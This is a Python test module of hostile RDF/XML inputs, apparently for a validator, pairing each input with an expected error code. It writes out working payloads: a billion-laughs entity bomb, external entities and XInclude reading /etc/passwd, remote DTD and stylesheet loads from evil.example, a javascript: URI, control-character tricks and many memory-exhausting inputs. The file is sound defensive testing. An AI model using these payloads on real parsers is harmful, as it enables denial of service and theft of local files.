"""Hostile RDF/XML."""

from typing import Final

from tests.hostile.case import KILO, MEGA, Case, Content, part

_RDF: Final = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
_OPEN: Final = (
    f'<rdf:RDF xmlns:rdf="{_RDF}" xmlns:mb="https://w3id.org/maalbar/ns#" '
    'xmlns:dct="http://purl.org/dc/terms/" xmlns:owl="http://www.w3.org/2002/07/owl#">'
)
_CLOSE: Final = "</rdf:RDF>"
_BOMB: Final = "".join(f"<!ENTITY a{n} '" + 10 * f"&a{n - 1};" + "'>" for n in range(1, 12))
_LAUGHS: Final = f"<!DOCTYPE x [<!ENTITY a0 'ha'>{_BOMB}]>"


def _case(name: str, content: Content, *codes: str) -> Case:
    return part(name, "figures.rdf", content, *codes)


def _goal(inside: str, more: str = "") -> str:
    return f'{_OPEN}<mb:Goal rdf:about="a" {more}>{inside}</mb:Goal>{_CLOSE}'


def _deep(count: int) -> str:
    return _OPEN + "<rdf:Description><dct:relation>" * count


CASES: Final = (
    _case("a billion laughs", _LAUGHS + _goal("&a11;"), "syntax/xml-dtd"),
    _case(
        "a billion laughs in an attribute",
        _LAUGHS + _goal("", "dct:title='&a11;'"),
        "syntax/xml-dtd",
    ),
    _case(
        "a file of the system",
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>{_goal("<dct:title>&a;</dct:title>")}',
        "syntax/xml-dtd",
    ),
    _case(
        "an entity of parameters",
        f'<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/x"> %a;]>{_goal("")}',
        "syntax/xml-dtd",
    ),
    _case(
        "a document type elsewhere",
        f'<!DOCTYPE rdf:RDF SYSTEM "https://evil.example/x.dtd">{_goal("")}',
        "syntax/xml-dtd",
    ),
    _case("an entity that no one declared", _goal("<dct:title>&a;</dct:title>"), "syntax/not-xml"),
    _case(
        "a part of another file",
        _goal('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
        "syntax/not-rdf",
    ),
    _case(
        "a style sheet",
        f'<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl"?>{_goal("")}',
        "shapes/min-count",
    ),
    _case(
        "a hundred thousand elements in each other", lambda: _deep(100 * KILO), "syntax/too-deep"
    ),
    _case("a million elements of no meaning", lambda: _OPEN + "<a>" * MEGA, "syntax/too-deep"),
    _case(
        "an attribute of twenty megabytes", lambda: _goal("", "dct:title='" + "a" * 20 * MEGA + "'")
    ),
    _case("a name of ten megabytes in XML", lambda: _OPEN + "<mb:" + "a" * 10 * MEGA + "/>"),
    _case(
        "fifty thousand attributes",
        lambda: _goal("", " ".join(f"mb:a{n}='1'" for n in range(50 * KILO))),
        "vocabulary/unknown-property",
    ),
    _case(
        "a hundred thousand namespaces",
        lambda: _goal("", " ".join(f"xmlns:a{n}='https://e.no/{n}'" for n in range(100 * KILO))),
        "shapes/min-count",
    ),
    _case(
        "a namespace of ten megabytes",
        lambda: _goal("", "xmlns:a='https://e.no/" + "a" * 10 * MEGA + "'"),
        "syntax/long-iri",
    ),
    _case(
        "a long namespace with many names",
        lambda: _goal(
            "".join(f"<a:b{n}>1</a:b{n}>" for n in range(20 * KILO)),
            "xmlns:a='https://e.no/" + "a" * 2000 + "'",
        ),
        "vocabulary/unknown-property",
    ),
    _case(
        "a long base in XML with many addresses",
        lambda: _goal(
            "".join(f"<dct:relation rdf:resource='{n}'/>" for n in range(20 * KILO)),
            "xml:base='https://e.no/" + "a" * 2000 + "/'",
        ),
        "vocabulary/unknown-property",
    ),
    _case(
        "a text of twenty megabytes in XML",
        lambda: _goal("<dct:title>" + "a" * 20 * MEGA + "</dct:title>"),
        "language/missing-tag",
    ),
    _case(
        "a million pieces of text",
        lambda: _goal("<dct:title>" + "a<!---->" * MEGA + "</dct:title>"),
        "language/missing-tag",
    ),
    _case(
        "a million references to characters",
        lambda: _goal("<dct:title>" + "&#x61;" * MEGA + "</dct:title>"),
        "language/missing-tag",
    ),
    _case("a character that XML has not", _goal("<dct:title>&#0;</dct:title>"), "syntax/not-xml"),
    _case(
        "a command behind a reference",
        _goal("<dct:title>&#x9b;2J</dct:title>"),
        "syntax/control-character",
    ),
    _case(
        "turned text behind a reference",
        _goal("<dct:title>&#x202e;abc</dct:title>"),
        "syntax/control-character",
    ),
    _case(
        "turned text in an attribute",
        _goal("<dct:relation rdf:resource='&#x202e;abc'/>"),
        "syntax/control-character",
    ),
    _case(
        "UTF-7",
        f'<?xml version="1.0" encoding="UTF-7"?>{_OPEN}+ADw-x/+AD4-{_CLOSE}',
        "syntax/not-rdf",
    ),
    _case(
        "UTF-16 in XML",
        lambda: f'<?xml version="1.0" encoding="UTF-16"?>{_goal("")}'.encode("utf-16"),
        "syntax/not-utf-8",
    ),
    _case(
        "XML as a value",
        _goal('<dct:title rdf:parseType="Literal"><b>a</b></dct:title>'),
        "syntax/xml-value",
    ),
    _case(
        "thirty thousand items",
        lambda: _goal("<rdf:li>1</rdf:li>" * 30 * KILO),
        "vocabulary/unknown-property",
    ),
    _case(
        "a collection of five thousand",
        lambda: _goal(
            "<mb:setBy rdf:parseType='Collection'>" + "<mb:Goal/>" * 5 * KILO + "</mb:setBy>"
        ),
        "syntax/no-address",
    ),
    _case(
        "an ontology that imports in XML",
        f'{_OPEN}<owl:Ontology rdf:about=""><owl:imports rdf:resource="file:///etc/passwd"/></owl:Ontology>{_CLOSE}',
        "vocabulary/unknown-property",
    ),
    _case(
        "an address in XML that runs",
        _goal('<mb:setBy rdf:resource="javascript:alert(1)"/>'),
        "syntax/bad-id",
    ),
    _case(
        "more attributes than may be",
        lambda: _goal("", " ".join(f"mb:a{n}=''" for n in range(501 * KILO))),
        "syntax/too-many-values",
    ),
    _case("a hundred thousand comments", lambda: "<!-- -->" * 100 * KILO, "syntax/not-xml"),
    _case("an XML that never ends", lambda: "<" * MEGA, "syntax/not-xml"),
    _case("an attribute twice", _goal("", "dct:title='a' dct:title='b'"), "syntax/not-xml"),
)
